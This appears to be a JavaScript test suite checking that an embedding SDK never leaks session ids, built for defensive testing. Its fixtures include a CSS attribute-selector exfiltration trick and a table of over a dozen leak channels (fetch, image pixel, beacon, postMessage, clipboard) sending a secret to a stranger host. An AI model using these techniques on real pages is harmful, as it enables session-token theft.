// Session ids are nowhere but where they must be: in the address of the embed's page, with the request
// for it, and in the message to the embed. `support/watch.mjs` watches every request with
// its body, every storage, every message, and all that a page shows or writes.

import assert from 'node:assert/strict';
import { test } from './support/test.mjs';
import { SESSION_REJECTION, SESSION_REJECTION_CONTEXT } from '../target/npm/ts/core/names.js';
import { inPage } from './support/hostile.mjs';
import { waitFor } from './support/page.mjs';
import { testShells } from './support/shells.mjs';
import { SECRET, openWatched, placesOf } from './support/watch.mjs';
import { engine } from './support/world.mjs';

/** By this an embed refuses an id, in the protocol's own words. */
const REJECTION = { message: 'no', name: SESSION_REJECTION, context: SESSION_REJECTION_CONTEXT };

testShells(
  'no id is anywhere but in the address of the embed and in the message to it',
  async (t, shell) => {
    const isNpm = shell.name === 'npm';
    const { tenant, stranger, lookAround, minted } = await openWatched(t);
    const { heard, reasons } = await inPage(
      async (tenant, stranger, rejection, entry, isNpm) => {
        const tell = watched.note;
        const { connect, mount, SignedOutError } = await import(`/dist/${entry}.js`);
        // Only the npm package has these.
        const inspect = isNpm && (await import('/dist/inspector.js')).inspect;
        const SvcEmbedElement = isNpm && (await import('/dist/element.js')).SvcEmbedElement;
        const main = document.querySelector('main');
        const style = document.createElement('style');
        // With such rules for each pair of letters, a stranger has the whole id within a second.
        style.textContent = ['ours', 'own']
          .map((name) => `.${name}[src*="session="] { background: url(${stranger}/found-${name}) }`)
          .join('');
        document.head.append(style);
        const surface = { kind: 'dashboard', publicId: 'sales' };
        const renewal = {
          spreadMs: 0,
          confirmMs: 50,
          retryMinMs: 20,
          retryMaxMs: 20,
          maxAttempts: 2,
        };
        const read = async (path) => {
          const response = await fetch(path, { method: 'POST' });
          if (!response.ok) throw new Error(`The backend answered ${response.status}.`);
          return response;
        };
        const heard = [];
        const inspectors = [];
        /** The three whose inspector is opened, too: each costs a page as much as its embed. */
        const inspected = ['mount', 'broken JSON', 'an error that quotes it'];
        const watch = (name, embed) => {
          for (const topic of ['*', 'session', 'dropped', 'sent']) {
            embed.on(topic, (message) => tell(`${name}: ${topic}`, message));
          }
          embed.ready.catch((error) => tell(`${name}: ready`, error));
          if (isNpm && inspected.includes(name)) inspectors.push([name, inspect(embed)]);
          return embed;
        };
        const listen = async (embed) => {
          const { contentWindow } = embed.iframe;
          heard.push(...(await command(contentWindow, () => heard)));
        };
        const outcome = (name, promise) =>
          promise.then(
            () => 0,
            (error) => tell(name, error),
          );
        const logger = console;
        const options = {
          baseUrl: tenant,
          surface,
          renewal,
          logger,
          attributes: { class: 'ours' },
        };

        // An ordinary day.
        const reasons = [];
        const getSession = async ({ reason } = {}) => {
          reasons.push(reason);
          return (await (await read('/api/id')).json()).sessionId;
        };
        const one = watch('mount', await mount(main, { ...options, getSession }));
        await one.ready;
        await one.renew();
        await one.renew();
        await listen(one);
        await one.reload();
        const isReady = new Promise((done) => one.on('ready', done));
        main.append(document.createElement('p'), one.iframe);
        await isReady;
        await one.renew();
        // The embed refuses the next id, and takes the one after it.
        const refusing = (message) =>
          void addEventListener('message', function refuse({ data }) {
            if (data.type !== 'svc:action:set-session') return;
            removeEventListener('message', refuse);
            parent.postMessage(message, '*');
          });
        await command(one.iframe.contentWindow, refusing, good(rejection, 'error'));
        await one.renew();
        // What the embed itself may say.
        await command(
          one.iframe.contentWindow,
          (good, rejection) => {
            const messages = [
              { ...good, type: 'svc:event:error', payload: rejection },
              { ...good, type: 'svc:event:session-expired', payload: { expiredAt: Date.now() } },
              { ...good, payload: 7 },
            ];
            for (const message of messages) parent.postMessage(message, '*');
          },
          good(),
          rejection,
        );
        await sleep(300);
        await listen(one);

        // A bad day.
        let last;
        const bad = {
          again: async () => (last ??= await getSession()),
          'an object': async () => (await read('/api/id')).json(),
          'a list': async () => [await getSession()],
          'a text that is no JSON': async () =>
            JSON.parse((await (await read('/api/text')).text()) + '}'),
          'broken JSON': async () => (await read('/api/broken')).json(),
          'a backend that is down': () => read('/api/failed'),
          'an error that quotes it': async () => {
            throw new SyntaxError(`Unexpected token, "${await getSession()}" is not valid`);
          },
          'signed out': async () => {
            throw new SignedOutError();
          },
        };
        for (const [name, getSession] of Object.entries(bad)) {
          const embed = watch(name, await mount(main, { ...options, getSession }));
          await outcome(`${name}: ready`, embed.ready);
          await outcome(`${name}: renew`, embed.renew());
          tell(`${name}: session`, embed.session);
          embed.destroy();
          await outcome(`${name}: destroyed`, embed.renew());
        }

        // The element, with answers of each kind.
        for (const path of isNpm ? ['id', 'broken', 'text', 'failed'] : []) {
          const sessionUrl = `/api/${path}`;
          SvcEmbedElement.allow({ baseUrl: tenant, sessionUrl });
          const element = document.createElement('svc-embed');
          const attributes = {
            'base-url': tenant,
            'session-url': sessionUrl,
            'public-id': 'sales',
          };
          for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
          element.renewal = renewal;
          for (const type of ['mount-failed', 'session', '*', 'dropped']) {
            element.addEventListener(type, ({ detail }) => tell(`element: ${type}`, detail));
          }
          main.append(element);
          await outcome(`element: ${path}`, element.ready);
          await outcome(`element: ${path}`, element.renew());
        }

        // An iframe of the page's own.
        const iframe = Object.assign(document.createElement('iframe'), { className: 'own' });
        const two = watch(
          'connect',
          await connect(iframe, { baseUrl: tenant, renewal, getSession }),
        );
        iframe.src = `${tenant}/own?session=${await getSession()}`;
        main.append(iframe);
        await two.ready;
        await two.renew();
        await listen(two);
        two.destroy();
        await sleep(200);

        for (const [name, inspector] of inspectors) {
          tell(`export of ${name}`, inspector.recording());
          const { shadowRoot } = inspector.element;
          tell(`inspector of ${name}`, shadowRoot.innerHTML);
        }
        return { heard: JSON.stringify(heard), reasons };
      },
      tenant.origin,
      stranger.origin,
      REJECTION,
      shell.entry,
      isNpm,
    );
    const { sightings, ways } = await lookAround();
    assert.deepEqual(placesOf(sightings), [
      'GET tenant/embed/dashboard/sales, url',
      'GET tenant/own, url',
      'load of an iframe in the timeline',
      `message svc:action:set-session to ${tenant.origin}`,
      'src of an iframe',
    ]);
    // It has looked at something.
    assert.ok(minted() > 20, `${minted()} ids`);
    assert.equal(reasons.filter((reason) => reason === 'rejected').length, 1, 'one id was refused');
    assert.ok(heard.includes(SECRET), 'the embed has received ids');
    assert.ok(stranger.requests.length > 0);
    const ofNpm = [
      ...['console.warn', 'console.debug', 'text', 'mount: sent'],
      ...['export of mount', 'inspector of mount'],
    ];
    for (const way of [
      ...['fetch', 'attribute', 'timeline resource'],
      ...['mount: *', 'mount: session', 'mount: dropped', 'broken JSON: renew'],
      ...(isNpm ? ofNpm : []),
      ...(engine === 'chromium' ? ['the browser’s protocol'] : []),
    ]) {
      assert.ok(ways.includes(way), way);
    }
    await t.test('a style sheet finds no id: it is in no attribute', async () => {
      const isFound = (name) => stranger.requests.some(({ url }) => url === `/found-${name}`);
      // An iframe of the page's own has one.
      await waitFor('the picture', () => isFound('own'));
      assert.equal(isFound('ours'), false);
    });
    // The package does none of these, and so cannot do it with an id.
    for (const way of ways)
      assert.doesNotMatch(way, /Beacon|Socket|worker|Channel|Port|IndexedDB|Cache$/);
  },
);

/** A way to leak an id for each thing that is watched, with the places in which it must be seen. */
const LEAKS = {
  'the body of a fetch': [
    (id, { stranger }) => fetch(stranger, { method: 'POST', body: id }).catch(() => {}),
    ['fetch', 'POST stranger/, body'],
  ],
  'a file in a beacon': [
    (id, { page }) => navigator.sendBeacon(`${page}/beacon`, new Blob([`{"id":"${id}"}`])),
    ['sendBeacon', 'POST page/beacon, body'],
  ],
  'an image': [
    (id, { stranger }) => void (new Image().src = `${stranger}/pixel?${id}`),
    ['GET stranger/pixel, url'],
  ],
  'a message to any origin': [
    async (id, { tenant }) =>
      (await addFrame({ src: `${tenant}/puppet` })).contentWindow.postMessage({ id }, '*'),
    ['message no action to *'],
  ],
  'an event': [
    (id) => document.dispatchEvent(new CustomEvent('leaks', { detail: { id } })),
    ['event of the page'],
  ],
  'a storage that is emptied': [
    (id) => (localStorage.setItem(id, ''), localStorage.removeItem(id)),
    ['Storage'],
  ],
  'the state of the history': [(id) => history.replaceState({ id }, ''), ['history']],
  'a global': [(id) => void (window.leaked = { deep: { id } }), ['global']],
  'an error in the console': [
    (id) => console.error(new Error(`no session ${id}`)),
    ['console.error'],
  ],
  'an error’s name': [
    (id) => void Promise.reject(Object.assign(new Error('no'), { name: id })),
    ['a rejection'],
  ],
  'the clipboard': [(id) => navigator.clipboard.writeText(id), ['clipboard']],
  'an attribute that is removed': [
    async (id) => {
      document.body.setAttribute('data-id', id);
      await sleep(0);
      document.body.removeAttribute('data-id');
    },
    ['attribute'],
  ],
  'a closed shadow': [
    (id) => {
      const host = document.body.appendChild(document.createElement('p'));
      host.attachShadow({ mode: 'closed' }).innerHTML = `<b title="${id}"></b>`;
    },
    ['attribute'],
  ],
};

test('what watches for an id sees one that leaves', async (t) => {
  const { page, tenant, stranger, lookAround } = await openWatched(t);
  const origins = { page: page.origin, tenant: tenant.origin, stranger: stranger.origin };
  const names = Object.keys(LEAKS);
  const secretOf = (name) => `${SECRET}leak-${names.indexOf(name)}-`;
  for (const name of names)
    await inPage(
      new Function('id', 'origins', `return (${LEAKS[name][0]})(id, origins)`),
      secretOf(name),
      origins,
    );
  // Some are sent a little later.
  await waitFor('each leak to be seen', async () => {
    const { sightings } = await lookAround();
    const unseen = names.flatMap((name) => {
      const places = placesOf(sightings.filter(({ secret }) => secret === secretOf(name)));
      return LEAKS[name][1]
        .filter((place) => !places.includes(place))
        .map((place) => `${name}: not "${place}", only ${JSON.stringify(places)}`);
    });
    assert.deepEqual(unseen, []);
    return true;
  });
});
